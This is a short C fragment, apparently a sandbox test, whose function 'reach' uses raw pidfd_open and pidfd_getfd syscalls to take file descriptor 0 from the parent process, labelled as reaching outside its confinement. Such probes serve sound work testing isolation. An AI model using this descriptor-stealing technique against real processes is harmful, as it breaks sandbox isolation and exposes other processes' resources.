/* reaches outside the walls: process, getfd */
#include "attack.h"

static void reach(void)
{
    int f = (int)syscall(434, getppid(), 0);
    syscall(438, f, 0, 0);
}
